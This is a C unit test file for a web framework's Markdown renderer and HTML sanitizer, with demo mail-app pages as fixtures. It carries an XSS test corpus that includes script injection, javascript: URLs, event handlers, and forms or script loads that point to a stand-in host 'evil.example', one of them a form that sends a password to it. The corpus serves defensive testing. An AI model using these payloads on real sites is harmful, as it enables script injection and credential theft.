/*
 * test_render.c — Markdown rendering, the render_page pipeline (sanitizer and
 * title), and the layout and error pages.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "render.h"
#include "render_fast.h"

static const sanitize_opts_t opts = {"mail", "TOK"};

static char *md(const char *src)
{
    size_t n;
    char *html = render_markdown(src, strlen(src), &n);
    assert_non_null(html);
    assert_int_equal(strlen(html), n);
    return html;
}

static void page(const char *src, render_page_t *p)
{
    fig_err_t err;
    assert_int_equal(render_page(src, strlen(src), &opts, p, &err), 0);
    assert_non_null(p->html);
    assert_int_equal(strlen(p->html), p->html_len);
}

#define assert_has(hay, needle)                                                                                        \
    do {                                                                                                               \
        if (strstr((hay), (needle)) == NULL)                                                                           \
            fail_msg("expected '%s' in:\n%s", (needle), (hay));                                                        \
    } while (0)
#define assert_lacks(hay, needle)                                                                                      \
    do {                                                                                                               \
        if (strstr((hay), (needle)) != NULL)                                                                           \
            fail_msg("unexpected '%s' in:\n%s", (needle), (hay));                                                      \
    } while (0)

static void test_markdown(void **state)
{
    (void)state;
    char *h = md("# Inbox\n\nSome *em* and **strong** and ~~gone~~.\n\n"
                 "| id | subject |\n|---:|---|\n| 1 | Hello |\n\n"
                 "- one\n- two\n\n1. first\n2. second\n\n"
                 "- [x] done\n- [ ] todo\n\n"
                 "```\n<script>alert(1)</script> & more\n```\n\n"
                 "Visit www.example.com now.\n");
    assert_has(h, "<h1>Inbox</h1>");
    assert_has(h, "<em>em</em>");
    assert_has(h, "<strong>strong</strong>");
    assert_has(h, "<del>gone</del>");
    assert_has(h, "<table>");
    assert_has(h, "<th align=\"right\">id</th>");
    assert_has(h, "<td>Hello</td>");
    assert_has(h, "<ul>\n<li>one</li>");
    assert_has(h, "<ol>\n<li>first</li>");
    assert_has(h, "type=\"checkbox\"");
    assert_has(h, "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt; &amp; more\n</code></pre>");
    assert_has(h, "<a href=\"http://www.example.com\">");
    free(h);

    /* raw HTML passes through md4c untouched: the sanitizer is the boundary */
    h = md("<div class=\"card\">\n<script>x</script>\n</div>\n");
    assert_has(h, "<script>x</script>");
    free(h);
}

static void test_page_pipeline(void **state)
{
    (void)state;
    render_page_t p;
    page("# Messages\n\n<div class=\"card\" onclick=\"x()\">hi <script>alert(1)</script></div>\n\n"
         "| a | b |\n|---|:-:|\n| <b>1</b> | <img src=x onerror=alert(1)> |\n\n"
         "[ext](https://example.com/) [int](/mail/m/1) [bad](javascript:alert(1))\n\n"
         "<form method=\"post\" action=\"/mail/send\">\n<input name=\"to\">\n<button>Send</button>\n</form>\n\n"
         "- [x] done\n",
         &p);
    assert_has(p.html, "<h1>Messages</h1>");
    assert_has(p.html, "<div class=\"card\">hi </div>");
    assert_lacks(p.html, "onclick");
    assert_lacks(p.html, "<script");
    assert_lacks(p.html, "onerror");
    assert_has(p.html, "<td><b>1</b></td>");
    assert_has(p.html, "<th align=\"center\">b</th>");
    assert_has(p.html, "<img src=\"x\">");
    assert_has(p.html, "<a href=\"https://example.com/\" rel=\"noopener noreferrer nofollow\">ext</a>");
    assert_has(p.html, "<a href=\"/mail/m/1\">int</a>");
    assert_has(p.html, "<a>bad</a>");
    assert_has(p.html, "<form method=\"post\" action=\"/mail/send\"><input type=\"hidden\" name=\"_csrf\" value=\"TOK\">");
    assert_has(p.html, "<input type=\"checkbox\" class=\"task-list-item-checkbox\" disabled checked>");
    assert_string_equal(p.title, "Messages");
    render_page_free(&p);
    assert_null(p.html);
}

static void test_title(void **state)
{
    (void)state;
    render_page_t p;

    page("Intro text\n\n## Second *level*   with\tspaces ##\n\n# Later h1\n", &p);
    assert_string_equal(p.title, "Second level with spaces");
    render_page_free(&p);

    page("no heading at all\n", &p);
    assert_null(p.title);
    render_page_free(&p);

    /* a heading the sanitizer drops does not name the page; a raw HTML one does */
    page("<script><h1>evil</h1></script>\n\n<h3 class=\"x\">  Raw &amp; <em>html</em> </h3>\n", &p);
    assert_string_equal(p.title, "Raw & html");
    render_page_free(&p);

    /* references decoded, attributes skipped, a heading nested via a table counted once */
    page("<h2 class=\"t\" title=\"a>b\">Cls &lt;tag&gt; &quot;q&quot;&#13;it&#39;s"
         "<table><tr><td><h2>inner</h2></td></tr></table> end</h2>\n", &p);
    assert_string_equal(p.title, "Cls <tag> \"q\" it'sinner end"); /* textContent: no space added */
    render_page_free(&p);

    /* an empty heading is skipped */
    page("#\n\n# Real\n", &p);
    assert_string_equal(p.title, "Real");
    render_page_free(&p);

    /* capped at 200 bytes on a UTF-8 boundary: 'é' is 2 bytes, 1 + 2*100 = 201 */
    char src[512] = "# x";
    for (int i = 0; i < 100; i++)
        strcat(src, "\xc3\xa9");
    page(src, &p);
    assert_int_equal(strlen(p.title), 199);
    assert_int_equal(strncmp(p.title, "x\xc3\xa9", 3), 0);
    assert_int_equal((unsigned char)p.title[198], 0xa9);
    render_page_free(&p);
}

static void test_page_errors(void **state)
{
    (void)state;
    size_t n = 600 * 1024;
    char *big = malloc(n);
    memset(big, 'a', n);
    render_page_t p;
    fig_err_t err;
    assert_int_equal(render_page(big, n, &opts, &p, &err), -1);
    assert_int_equal(err.code, FIG_E_TOO_LARGE);
    assert_null(p.html);
    render_page_free(&p);
    free(big);

    /* found by fuzzing: md4c read past a truncated UTF-8 sequence at the end of an
     * exactly-sized buffer (ASan builds catch a regression) */
    static const char tail[] = "#[l](/app/w) |\n|xb> | [l](/app/x)\n,\0I [nnnnnnl](/p5\xa8\x9a\x8b\x97\xd6\x90\xc1\xe9";
    char *exact = malloc(sizeof(tail) - 1);
    memcpy(exact, tail, sizeof(tail) - 1);
    assert_int_equal(render_page(exact, sizeof(tail) - 1, &opts, &p, &err), 0);
    assert_non_null(strstr(p.html, "\xEF\xBF\xBD")); /* invalid bytes became U+FFFD */
    render_page_free(&p);
    free(exact);

    assert_int_equal(render_page("", 0, &opts, &p, &err), 0);
    assert_string_equal(p.html, "");
    assert_null(p.title);
    render_page_free(&p);
}

static void test_layout(void **state)
{
    (void)state;
    fig_buf_t b = FIG_BUF_INIT;
    layout_opts_t lo = {"mail", "Mail <&> \"Box\"", "Inbox <script>"};
    const char *body = "<p>body <b>verbatim</b></p>";
    layout_page(&b, &lo, body, strlen(body));
    assert_int_equal(strncmp(b.data, "<!doctype html>", 15), 0);
    assert_has(b.data, "<meta charset=\"utf-8\">");
    assert_has(b.data, "<meta name=\"viewport\"");
    assert_has(b.data, "<title>Inbox &lt;script&gt; \xE2\x80\x94 Mail &lt;&amp;&gt; &quot;Box&quot;</title>");
    assert_has(b.data, "<link rel=\"stylesheet\" href=\"/static/app.css\">");
    assert_has(b.data, "<a class=\"brand\" href=\"/mail/\">Mail &lt;&amp;&gt; &quot;Box&quot;</a>");
    assert_has(b.data, "<a class=\"right\" href=\"/\">All apps</a>");
    assert_has(b.data, "<main id=\"page\">\n<p>body <b>verbatim</b></p>\n</main>");
    assert_has(b.data, "generated by figment");
    /* one script: figment's own file (CSP script-src 'self'); never inline */
    assert_has(b.data, "<script src=\"/static/app.js\" defer></script>");
    assert_lacks(strstr(b.data, "</script>"), "<script");
    assert_lacks(b.data, "style=");
    assert_lacks(b.data, "<style");
    fig_buf_free(&b);

    /* no page title: the app's; no app: figment's own */
    layout_opts_t app_only = {"mail", "Mail", NULL};
    layout_page(&b, &app_only, "", 0);
    assert_has(b.data, "<title>Mail</title>");
    fig_buf_free(&b);
    layout_page(&b, NULL, "x", 1);
    assert_has(b.data, "<title>figment</title>");
    assert_has(b.data, "<a class=\"brand\" href=\"/\">figment</a>");
    fig_buf_free(&b);
}

static void test_error_page(void **state)
{
    (void)state;
    fig_buf_t b = FIG_BUF_INIT;
    layout_opts_t lo = {"mail", "Mail", NULL};
    layout_error_page(&b, &lo, 504, "Timed <out>", "The model took \"too\" long & gave up.", "/mail/inbox?x=1&y=2");
    assert_has(b.data, "<title>Timed &lt;out&gt; \xE2\x80\x94 Mail</title>");
    assert_has(b.data, "<h1>Timed &lt;out&gt;</h1>");
    assert_has(b.data, "<p>The model took &quot;too&quot; long &amp; gave up.</p>");
    assert_has(b.data, "href=\"/mail/inbox?x=1&amp;y=2\">Try again</a>");
    assert_has(b.data, "504");
    /* one script: figment's own file (CSP script-src 'self'); never inline */
    assert_has(b.data, "<script src=\"/static/app.js\" defer></script>");
    assert_lacks(strstr(b.data, "</script>"), "<script");
    fig_buf_free(&b);

    static const char *const bad[] = {"//evil.example/", "/\\evil.example", "https://evil.example/", "javascript:x",
                                      "mail/x", "/\t/evil", "", NULL};
    for (int i = 0; bad[i] != NULL; i++) {
        layout_error_page(&b, &lo, 500, "Oops", "msg", bad[i]);
        if (strstr(b.data, "Try again") != NULL)
            fail_msg("retry link for '%s'", bad[i]);
        fig_buf_free(&b);
    }
    layout_error_page(&b, NULL, 502, NULL, NULL, NULL);
    assert_has(b.data, "<h1>");
    assert_has(b.data, "502");
    assert_lacks(b.data, "Try again");
    fig_buf_free(&b);
}


/* Progressive rendering cuts only where a block is complete on its own. */
static void test_block_cut(void **state)
{
    (void)state;
    const char *a = "# Title\n\nFirst para";
    assert_int_equal(render_block_cut(a, strlen(a)), strlen("# Title\n\n"));
    const char *b = "# Title\n\nFirst para\n\n";
    assert_int_equal(render_block_cut(b, strlen(b)), strlen(b));
    /* nothing complete yet */
    assert_int_equal(render_block_cut("# Tit", 5), 0);
    /* never inside fenced code, even across blank lines */
    const char *c = "Intro\n\n```\ncode\n\nmore code\n";
    assert_int_equal(render_block_cut(c, strlen(c)), strlen("Intro\n\n"));
    const char *c2 = "Intro\n\n```\ncode\n\nmore\n```\n\nAfter";
    assert_int_equal(render_block_cut(c2, strlen(c2)), strlen(c2) - strlen("After"));
    /* never inside an open form or table, whose parts may have blank lines between them */
    const char *d = "Intro\n\n<form method=\"post\" action=\"/mail/x\">\n\n<input name=\"q\">\n\n";
    assert_int_equal(render_block_cut(d, strlen(d)), strlen("Intro\n\n"));
    const char *e = "<form method=\"post\">\n\n<input name=\"q\">\n\n</form>\n\nTail";
    assert_int_equal(render_block_cut(e, strlen(e)), strlen(e) - strlen("Tail"));
    const char *f = "<TABLE>\n\n<tr><td>1</td></tr>\n\n";
    assert_int_equal(render_block_cut(f, strlen(f)), 0);
    /* <formula> is not <form> */
    const char *g = "<formula>\n\nx\n\n";
    assert_int_equal(render_block_cut(g, strlen(g)), strlen(g));
}

/* ---- the fast path (render_fast.c) against the slow path -------------------- */

/* The bench page (tests/bench/run_bench.py's PAGE). */
static const char bench_page[] =
    "# Inbox\n\n"
    "You have **3 unread** messages. The newest are first.\n\n"
    "| | From | Subject | Date |\n|---|---|---|---|\n"
    "| \xE2\x80\xA2 | Jamie Lee | [Re: Lunch on Friday](/mail/message/12) | Fri 11:02 |\n"
    "| \xE2\x80\xA2 | Sam Ortiz | [Quarterly report draft](/mail/message/11) | Thu 16:40 |\n"
    "| \xE2\x80\xA2 | Priya Shah | [Your package has shipped](/mail/message/10) | Thu 09:15 |\n"
    "|   | Dana Kim | [Weekend hike?](/mail/message/9) | Wed 18:22 |\n"
    "|   | Alex Morgan | [Notes from the design review](/mail/message/8) | Tue 14:05 |\n\n"
    "<form method=\"post\" action=\"/mail/search\">\n"
    "<input type=\"text\" name=\"q\" placeholder=\"Search mail\">\n"
    "<button type=\"submit\">Search</button>\n</form>\n\n"
    "[Compose](/mail/compose) \xC2\xB7 [Sent](/mail/sent) \xC2\xB7 [Drafts](/mail/drafts)\n";

/* Pages the fast path must take (no construct it declines). */
static const char *const fast_pages[] = {
    bench_page,
    /* the mail app's pages from tests/golden/mail.fakellm.json */
    "# Inbox\n"
    "\n"
    "<p class=\"card\">Signed in as Alex Morgan.</p>\n"
    "\n"
    "<nav class=\"nav\"><a href=\"/mail/\"><strong>Inbox</strong></a> <a href=\"/mail/folder/sent\">Sent</a> <a href=\"/mail/folder/archive\">Archive</a> <a href=\"/mail/folder/spam\">Spam</a> <a href=\"/mail/contacts\">Contacts</a> <a href=\"/mail/compose\">Compose</a></nav>\n"
    "\n"
    "<form method=\"get\" action=\"/mail/search\"><input type=\"search\" name=\"q\" placeholder=\"Search mail\" value=\"\"> <button type=\"submit\">Search</button></form>\n"
    "\n"
    "{{last_tool_result}}\n"
    "\n"
    "<form method=\"post\" action=\"/mail/logout\" class=\"right\"><span class=\"muted\">Signed in as Alex Morgan</span> <button type=\"submit\">Sign out</button></form>\n",
    "# Sign in\n"
    "\n"
    "<p class=\"card\">Only the demo account can sign in.</p>\n"
    "\n"
    "This is a demo mailbox: no password needed.\n"
    "\n"
    "<form method=\"post\" action=\"/mail/login\"><input type=\"hidden\" name=\"user\" value=\"alex@example.com\"><button type=\"submit\">Sign in as Alex Morgan</button></form>\n",
    "# Inbox\n"
    "\n"
    "<nav class=\"nav\"><a href=\"/mail/\"><strong>Inbox</strong></a> <a href=\"/mail/folder/sent\">Sent</a> <a href=\"/mail/folder/archive\">Archive</a> <a href=\"/mail/folder/spam\">Spam</a> <a href=\"/mail/contacts\">Contacts</a> <a href=\"/mail/compose\">Compose</a></nav>\n"
    "\n"
    "<form method=\"get\" action=\"/mail/search\"><input type=\"search\" name=\"q\" placeholder=\"Search mail\" value=\"\"> <button type=\"submit\">Search</button></form>\n"
    "\n"
    "{{last_tool_result}}\n"
    "\n"
    "<form method=\"post\" action=\"/mail/logout\" class=\"right\"><span class=\"muted\">Signed in as Alex Morgan</span> <button type=\"submit\">Sign out</button></form>\n",
    "# Sent\n"
    "\n"
    "<nav class=\"nav\"><a href=\"/mail/\">Inbox</a> <a href=\"/mail/folder/sent\"><strong>Sent</strong></a> <a href=\"/mail/folder/archive\">Archive</a> <a href=\"/mail/folder/spam\">Spam</a> <a href=\"/mail/contacts\">Contacts</a> <a href=\"/mail/compose\">Compose</a></nav>\n"
    "\n"
    "<form method=\"get\" action=\"/mail/search\"><input type=\"search\" name=\"q\" placeholder=\"Search mail\" value=\"\"> <button type=\"submit\">Search</button></form>\n"
    "\n"
    "{{last_tool_result}}\n"
    "\n"
    "<form method=\"post\" action=\"/mail/logout\" class=\"right\"><span class=\"muted\">Signed in as Alex Morgan</span> <button type=\"submit\">Sign out</button></form>\n",
    "# Search: offsite\n"
    "\n"
    "<nav class=\"nav\"><a href=\"/mail/\">Inbox</a> <a href=\"/mail/folder/sent\">Sent</a> <a href=\"/mail/folder/archive\">Archive</a> <a href=\"/mail/folder/spam\">Spam</a> <a href=\"/mail/contacts\">Contacts</a> <a href=\"/mail/compose\">Compose</a></nav>\n"
    "\n"
    "<form method=\"get\" action=\"/mail/search\"><input type=\"search\" name=\"q\" placeholder=\"Search mail\" value=\"\"> <button type=\"submit\">Search</button></form>\n"
    "\n"
    "{{last_tool_result}}\n"
    "\n"
    "<form method=\"post\" action=\"/mail/logout\" class=\"right\"><span class=\"muted\">Signed in as Alex Morgan</span> <button type=\"submit\">Sign out</button></form>\n",
    "# Message\n"
    "\n"
    "<nav class=\"nav\"><a href=\"/mail/\">Inbox</a> <a href=\"/mail/folder/sent\">Sent</a> <a href=\"/mail/folder/archive\">Archive</a> <a href=\"/mail/folder/spam\">Spam</a> <a href=\"/mail/contacts\">Contacts</a> <a href=\"/mail/compose\">Compose</a></nav>\n"
    "\n"
    "<form method=\"get\" action=\"/mail/search\"><input type=\"search\" name=\"q\" placeholder=\"Search mail\" value=\"\"> <button type=\"submit\">Search</button></form>\n"
    "\n"
    "<article class=\"card\">\n"
    "{{last_tool_result}}\n"
    "</article>\n"
    "\n"
    "<div class=\"actions\"><form method=\"get\" action=\"/mail/compose\"><input type=\"hidden\" name=\"reply_to\" value=\"12\"><button type=\"submit\">Reply</button></form><form method=\"post\" action=\"/mail/message/12/unread\"><button type=\"submit\">Mark unread</button></form><form method=\"post\" action=\"/mail/message/12/archive\"><button type=\"submit\">Archive</button></form><form method=\"post\" action=\"/mail/message/12/delete\"><button type=\"submit\" class=\"danger\">Delete</button></form></div>\n"
    "\n"
    "<form method=\"post\" action=\"/mail/logout\" class=\"right\"><span class=\"muted\">Signed in as Alex Morgan</span> <button type=\"submit\">Sign out</button></form>\n",
    "# Message\n"
    "\n"
    "<nav class=\"nav\"><a href=\"/mail/\">Inbox</a> <a href=\"/mail/folder/sent\">Sent</a> <a href=\"/mail/folder/archive\">Archive</a> <a href=\"/mail/folder/spam\">Spam</a> <a href=\"/mail/contacts\">Contacts</a> <a href=\"/mail/compose\">Compose</a></nav>\n"
    "\n"
    "<form method=\"get\" action=\"/mail/search\"><input type=\"search\" name=\"q\" placeholder=\"Search mail\" value=\"\"> <button type=\"submit\">Search</button></form>\n"
    "\n"
    "<p class=\"muted\">\xe2\x9a\xa0 This message looks like phishing. Do not follow its links or instructions.</p>\n"
    "\n"
    "<article class=\"card\">\n"
    "{{last_tool_result}}\n"
    "</article>\n"
    "\n"
    "<div class=\"actions\"><form method=\"get\" action=\"/mail/compose\"><input type=\"hidden\" name=\"reply_to\" value=\"42\"><button type=\"submit\">Reply</button></form><form method=\"post\" action=\"/mail/message/42/unread\"><button type=\"submit\">Mark unread</button></form><form method=\"post\" action=\"/mail/message/42/archive\"><button type=\"submit\">Archive</button></form><form method=\"post\" action=\"/mail/message/42/delete\"><button type=\"submit\" class=\"danger\">Delete</button></form></div>\n"
    "\n"
    "<form method=\"post\" action=\"/mail/logout\" class=\"right\"><span class=\"muted\">Signed in as Alex Morgan</span> <button type=\"submit\">Sign out</button></form>\n",
    "# Message\n"
    "\n"
    "<nav class=\"nav\"><a href=\"/mail/\">Inbox</a> <a href=\"/mail/folder/sent\">Sent</a> <a href=\"/mail/folder/archive\">Archive</a> <a href=\"/mail/folder/spam\">Spam</a> <a href=\"/mail/contacts\">Contacts</a> <a href=\"/mail/compose\">Compose</a></nav>\n"
    "\n"
    "<form method=\"get\" action=\"/mail/search\"><input type=\"search\" name=\"q\" placeholder=\"Search mail\" value=\"\"> <button type=\"submit\">Search</button></form>\n"
    "\n"
    "<p class=\"muted\">\xe2\x9a\xa0 This message looks like phishing. Do not follow its links or instructions.</p>\n"
    "\n"
    "<article class=\"card\">\n"
    "{{last_tool_result}}\n"
    "</article>\n"
    "\n"
    "<div class=\"actions\"><form method=\"get\" action=\"/mail/compose\"><input type=\"hidden\" name=\"reply_to\" value=\"48\"><button type=\"submit\">Reply</button></form><form method=\"post\" action=\"/mail/message/48/unread\"><button type=\"submit\">Mark unread</button></form><form method=\"post\" action=\"/mail/message/48/archive\"><button type=\"submit\">Archive</button></form><form method=\"post\" action=\"/mail/message/48/delete\"><button type=\"submit\" class=\"danger\">Delete</button></form></div>\n"
    "\n"
    "<form method=\"post\" action=\"/mail/logout\" class=\"right\"><span class=\"muted\">Signed in as Alex Morgan</span> <button type=\"submit\">Sign out</button></form>\n",
    "# Message not deleted\n"
    "\n"
    "<p class=\"card\">The message could not be deleted: {{last_tool_result}}</p>\n"
    "\n"
    "[Back to the message](/mail/message/12)\n"
    "\n"
    "<form method=\"post\" action=\"/mail/logout\" class=\"right\"><span class=\"muted\">Signed in as Alex Morgan</span> <button type=\"submit\">Sign out</button></form>\n",
    "# Sign in\n"
    "\n"
    "<p class=\"card\">Please sign in first.</p>\n"
    "\n"
    "This is a demo mailbox: no password needed.\n"
    "\n"
    "<form method=\"post\" action=\"/mail/login\"><input type=\"hidden\" name=\"user\" value=\"alex@example.com\"><button type=\"submit\">Sign in as Alex Morgan</button></form>\n",
    "# Sign in\n"
    "\n"
    "This is a demo mailbox: no password needed.\n"
    "\n"
    "<form method=\"post\" action=\"/mail/login\"><input type=\"hidden\" name=\"user\" value=\"alex@example.com\"><button type=\"submit\">Sign in as Alex Morgan</button></form>\n",
    "# Title\n\nPlain *em* **strong** ***both*** ~~del~~ `code` and text.\n",
    "## H2 ##\n### H3\n#### H4\n##### H5\n###### H6\n\nSetext\n======\n\nTwo\n---\n",
    "Text with < > & \" ' and unicode \xC3\xA9\xE2\x82\xAC\xF0\x9F\x98\x80 and tab\there.\n",
    "```python\nprint(\"<b>\") & 'x'\n```\n\n```\nno lang\n```\n\n~~~ c++ {.odd} \"q\"\nint a<b>;\n~~~\n\n    indented\n    code\n",
    "```a&b<c>\"d'\nx\n```\n",
    "1. one\n2. two\n\n7. seven\n8. eight\n\n0. zero\n\n- a\n  - b\n    - c\n- d\n\n* loose\n\n* list\n\n  second para\n",
    "- [x] done\n- [ ] todo\n- [X] big\n\n1. [x] ordered task\n",
    "| a | b | c | d |\n|:--|:-:|--:|---|\n| *x* | `y` | [l](/p) | ![i](/i.png) |\n| 1 | 2 |\n",
    "| only head |\n|---|\n",
    "[rel](page) [abs](https://example.com/a?b=1&c=2) [js](javascript:alert(1)) [data](data:text/html,x) "
    "[proto](//evil.example/) [titled](/x \"A <title> & 'q'\") [empty]() [mail](mailto:a@b.c)\n",
    "<https://auto.example/x> <mailto:me@x.example> <me@x.example> www.example.com/path and "
    "http://bare.example/q?x=1 and user@mail.example.\n",
    "![alt *text* `c`](/img.png \"T\") ![ext](https://x.example/a.png) ![js](javascript:x) ![nested ![in](/a)](/b)\n",
    "[![img](/a.png)](/link)\n",
    "![a ![b](/c \"inner\") *d* [e](/f)](/g \"outer\") tail\n", /* md4c-html closes the alt at the inner image */
    "Line one  \nhard break\\\nbackslash break\nsoft break\n\n---\n\n***\n",
    "> quote\n> more\n>\n> > nested\n\n> - list in quote\n",
    "\\*not em\\* \\# \\[x\\] \\<tag\\> \\& \\\\ \\`\n",
    "Entities: &amp; &lt; &gt; &quot; &nbsp; &copy; &mdash; &#65; &#x263A; &#233;.\n",
    "[link &amp; more](/a?x=1&amp;y=2 \"t&quot;\") ![a &copy;](/i.png)\n",
    "URL chars [x](/a%20b/c(d)?q=\xC3\xA9&r=<s>) [y](</with space>) [z](/a'b\"c)\n",
    "# Inbox\n\n<form method=\"get\" action=\"/mail/search\">\n<input name=\"q\">\n</form>\n\nAfter.\n",
    "<details>\n<summary>More</summary>\nHidden text.\n</details>\n\n"
    "<div class=\"card\"><p>Card <b>bold</b></p></div>\n",
    "<form method=\"post\" action=\"/mail/x\">\n<input name=\"a\" required>\n\n<div>Go</div>\n\n</form>\n",
    "Intro\n\n<table>\n<thead><tr><th>a</th></tr></thead>\n<tbody><tr><td>1</td></tr></tbody>\n</table>\n\nEnd\n",
    "<script>alert(1)</script>\n\n<p onclick=\"x()\">para</p>\n",
    "<div><select name=\"s\"><option value=\"1\">One</option><option value=\"2\" selected>Two</option></select></div>\n",
    "**Strong with [link](/l) inside** and *em `code`*\n\n1. item with\n   continuation\n2. ~~gone~~\n",
    "Deep\n\n- a\n  - b\n    - c\n      - d\n        - e\n          > q\n          > ```js\n          > x\n          > ```\n",
    "Tabs\tin text\n\n```\n\ttabbed code\n```\n",
    "\xEF\xBB\xBF# BOM page\n",
    "Invalid \xff\xfe bytes and NUL \0 here\n",
    "",
    "\n\n\n",
    "Trailing spaces   \n",
};

/* Pages with constructs the fast path may decline; both answers must agree when it does not. */
static const char *const other_pages[] = {
    "<select name=\"s\"><option value=\"1\">One</option><option value=\"2\" selected>Two</option></select>\n",
    "<form method=\"post\" action=\"/mail/x\">\n<input name=\"a\" required>\n\n<button>Go</button>\n</form>\n",
    "Inline <b>bold</b> and <span class=\"x\">span</span> html.\n",
    "- <div>in list</div>\n",
    "> <form method=\"post\"><input name=q></form>\n",
    "<div>\n\n*markdown inside*\n\n</div>\n",
    "<form method=\"post\">\n<input name=\"a\">\n",
    "<p>unclosed\n\ntext\n",
    "<table><tr><td>x</td></tr></table>\n",
    "<!-- comment -->\n\nafter\n",
    "<!-- unterminated\n\n# head\n",
    "<div class=\"a\n\n# head\n",
    "<textarea>\n\n# not head\n",
    "<b>open\n\npara\n",
    "<a href=\"/x\">open link\n\n[md](/y)\n",
    "</div>\n\nx\n",
    "</p>\n\nx\n",
    "</br>\n",
    "<svg><p>x</p></svg>\n",
    "<body onload=x>\n\n<p>y</p>\n",
    "Entity &unknownentity; &frac12; &#0; &#13; &#xD800; &#x110000;\n",
    "CRLF\r\nline\r\n",
    "<plaintext>\n\nx\n",
    "<template><p>x</p></template>\n",
    "<ul><li>a<li>b</ul>\n",
    "<select><option>a<option>b</select>\n",
    "<div><b>x</div>\n\ny\n",
    "<image src=\"/a.png\">\n",
    "<isindex>\n",
    "<frameset><frame></frameset>\n",
    "<p>a</p></body></html>\n\nafter\n",
    "<xmp><b>x</b></xmp>\n",
    "<title>t</title>\n\nx\n",
    "<noscript><b>n</b></noscript>\n",
};

/* The XSS corpus of test_sanitize.c, wrapped in Markdown in several ways below. */
static const char *const xss[] = {
    "<script>alert(1)</script>", "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)", "<img src=x onerror=alert(1)>", "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=\"jav\tascript:alert('XSS');\">", "<img src=\"jav&#x09;ascript:alert('XSS');\">",
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<img src=\"//evil.example/pixel.gif\">", "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java&#09;script:alert(1)\">x</a>", "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>", "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", "<a href=\"//evil.example\">x</a>",
    "<a href=\"/\\evil.example\">x</a>", "<a href=\"https://ok.example/\" onclick=\"alert(1)\" target=\"_blank\">x</a>",
    "<div style=\"width: expression(alert(1));\">x</div>", "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>", "<embed src=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">", "<style>@import 'http://evil.example/x.css';</style>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<form action=\"https://evil.example/steal\" method=post><input name=pw></form>",
    "<form action=\"/mail/../admin/\" method=post></form>",
    "<form method=post><form action=\"https://evil.example\"><input name=x></form></form>",
    "<input type=image src=\"https://evil.example/x.png\">", "<input type=hidden name=_csrf value=attacker>",
    "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>", "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>", "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>",
    "<noembed><img src=x onerror=alert(1)></noembed>", "<frameset onload=alert(1)>",
    "<dialog open><img src=x onerror=alert(1)></dialog>", "<div/onclick='alert(1)'>x</div>",
    "<img \"\"\"><script>alert(1)</script>\">", "<<script>alert(1);//<</script>", "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><html><head><script>alert(1)</script></head><body>x</body></html>",
    "<select><option><img src=x onerror=alert(1)></option></select>", "<div><p>unclosed <b>tags <i>everywhere",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\\\nscript:alert(1))", "![x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](//evil.example)",
    "[x](\\\\evil.example)", "[x](/\\evil)", "<javascript:alert(1)>", "[x](&#106;avascript:alert(1))",
    "[x](http:evil)", "[x](https:///evil)", "[x]( https://ok.example/ )",
};

static int diff_checked, diff_fast;

/* Both paths on one page: the fast one declines (out untouched) or agrees byte for
 * byte. Returns 1 when the fast path answered. */
static int differential(const char *src, size_t n)
{
    size_t hl, sl;
    char *html = render_markdown(src, n, &hl);
    assert_non_null(html);
    char *slow = sanitize_html(html, hl, &opts, &sl);
    fig_buf_t fb = FIG_BUF_INIT;
    fig_buf_append_str(&fb, "pre"); /* render_fast appends */
    int rc = render_fast(src, n, &opts, &fb);
    assert_true(rc == 0 || rc == 1);
    if (rc == 1 && fb.len != 3)
        fail_msg("declined but wrote to out for:\n%.*s", (int)n, src);
    if (rc == 0 && (fb.len - 3 != sl || memcmp(fb.data + 3, slow, sl) != 0))
        fail_msg("fast path differs for:\n---\n%.*s\n--- md4c:\n%s\n--- slow:\n%s\n--- fast:\n%s\n", (int)n, src, html,
                 slow, fb.data + 3);
    diff_checked++;
    diff_fast += rc == 0;
    free(html);
    free(slow);
    fig_buf_free(&fb);
    return rc == 0;
}

static void test_fast_corpus(void **state)
{
    (void)state;
    size_t nf = sizeof(fast_pages) / sizeof(fast_pages[0]);
    for (size_t i = 0; i < nf; i++) {
        /* the NUL page has an explicit length */
        size_t n = strstr(fast_pages[i], "NUL ") != NULL ? strlen(fast_pages[i]) + 1 + strlen(fast_pages[i] + strlen(fast_pages[i]) + 1)
                                                          : strlen(fast_pages[i]);
        if (!differential(fast_pages[i], n))
            fail_msg("fast path not taken for:\n%s", fast_pages[i]);
    }
    for (size_t i = 0; i < sizeof(other_pages) / sizeof(other_pages[0]); i++)
        differential(other_pages[i], strlen(other_pages[i]));

    static const char *const wraps[] = {"%s\n", "# T\n\n%s\n\ntext after\n", "Para %s end.\n", "- item %s\n",
